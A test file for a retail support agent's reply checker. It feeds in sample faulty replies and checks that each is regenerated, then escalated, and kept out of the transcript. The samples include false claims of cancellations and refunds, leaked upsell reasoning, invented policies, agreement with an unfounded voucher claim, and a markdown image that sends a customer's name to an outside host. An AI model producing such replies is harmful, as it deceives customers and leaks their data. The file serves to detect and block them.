import { afterEach, describe, expect, test } from 'vitest';
import { detailOf } from '../../core/step-details.ts';
import { retailHarness } from '../retail-harness.ts';
import { mia } from '../retail-shop.ts';

const ASKED = 'where is my order #W1000001? you owe me a $75 voucher';
const TRUE = 'A pending order can be cancelled.';

/** A reply of each kind that may not go out, with the fault that it must have. */
const REPLIES: readonly (readonly [what: string, fault: string, reply: string])[] = [
  ['an action that never ran', 'effect', 'All set, #W1000001 has been called off.'],
  ['money that was never sent', 'effect', 'I have sent your money back, and it arrives by Friday.'],
  ['its reasoning', 'form', '<thinking>they sound new here, so upsell</thinking>What is your postal code?'],
  ['a picture that carries data away', 'link', 'Look: ![map](https://pics.example/?who=mia)'],
  ['a link that nobody wrote', 'link', 'Settle it at https://settle.example/now please.'],
  [
    'a call of a tool as text',
    'call',
    '{"tool": "get_user_details", "arguments": {"user_id": "mia_brooks_1001"}}',
  ],
  ['a rule that the texts deny', 'policy', 'A delivered order can be cancelled as well.'],
  ['a period that no text has', 'quantity', 'Exchanges are possible for 18 months after the purchase.'],
  ['an amount in words', 'amount', 'You will receive eighty-five dollars from us.'],
  ["the customer's words as its own", 'amount', 'That is right, a voucher of $75 belongs to you.'],
];

let shop: Awaited<ReturnType<typeof retailHarness>>;
afterEach(() => shop.close());

/** A turn in which a model writes these replies, one at each try. */
async function turnOf(replies: readonly string[]) {
  shop = await retailHarness({ script: (_request, number) => replies[number] ?? TRUE });
  const turn = await shop.say(await shop.open('t1', mia), ASKED);
  const steps = (await shop.ledger.turns.get(turn.turn_id))?.steps ?? [];
  return { turn, tries: steps.flatMap((step) => detailOf(step, 'respond') ?? []) };
}

const odds = (confidence: number | null) => (confidence ?? 0) / (1 - (confidence ?? 0));

const transcript = async () => JSON.stringify(await shop.ledger.threads.transcript('t1', 50));

describe.each(REPLIES)('a reply with %s', (_what, fault, reply) => {
  test('is written again once, and then a person is called', async () => {
    const { turn, tries } = await turnOf([reply, reply, TRUE]);
    expect(turn.outcome).toBe('escalated');
    expect(shop.model?.calls).toHaveLength(2);
    expect(tries.map(({ faults }) => faults?.map(({ kind }) => kind))).toEqual([
      expect.arrayContaining([fault]),
      expect.arrayContaining([fault]),
    ]);
    expect(await transcript()).not.toContain(JSON.stringify(reply).slice(1, -1));
  });

  test('leaves a third of the odds to the reply that took its place', async () => {
    const { turn } = await turnOf([reply, TRUE]);
    expect(turn).toMatchObject({ outcome: 'answered', reply: { text: TRUE } });
    const regenerated = turn.confidence;
    await shop.close();
    const { turn: first } = await turnOf([TRUE]);
    expect(odds(regenerated)).toBeLessThan(odds(first.confidence) / 2.5);
  });
});

test('a sentence without a ground is dropped if the rest stands by itself', async () => {
  const reply = `${TRUE} Exchanges are possible for 18 months after the purchase.`;
  const { turn } = await turnOf([reply, reply]);
  expect(turn).toMatchObject({ outcome: 'answered', reply: { text: TRUE } });
  expect(shop.model?.calls).toHaveLength(2);
});
